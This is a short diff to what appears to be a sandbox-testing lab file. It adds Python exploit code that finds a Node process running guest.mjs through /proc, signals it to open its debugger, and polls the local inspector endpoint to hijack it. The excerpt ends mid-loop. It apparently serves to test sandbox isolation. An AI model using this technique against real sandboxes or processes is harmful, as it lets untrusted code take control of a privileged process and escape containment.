@@ -3,7 +3,11 @@ import { type Inside, textOf } from "./sandbox-lab.ts";
 /** User code has the guest's own rights: a signal opens its debugger, and then it says whatever it is told to say. */
 const TAKE_OVER = `
 import base64, json, os, signal, socket, struct, sys, time, urllib.request
-os.kill(2, signal.SIGUSR1)
+def is_guest(pid):
+    try: program, *args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+    except OSError: return False
+    return program.endswith(b"node") and any(arg.endswith(b"guest.mjs") for arg in args)
+os.kill(next(int(pid) for pid in os.listdir("/proc") if pid.isdigit() and is_guest(pid)), signal.SIGUSR1)
 opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
 for _ in range(1000):
     try: target = json.load(opener.open("http://127.0.0.1:9229/json/list"))[0]; break
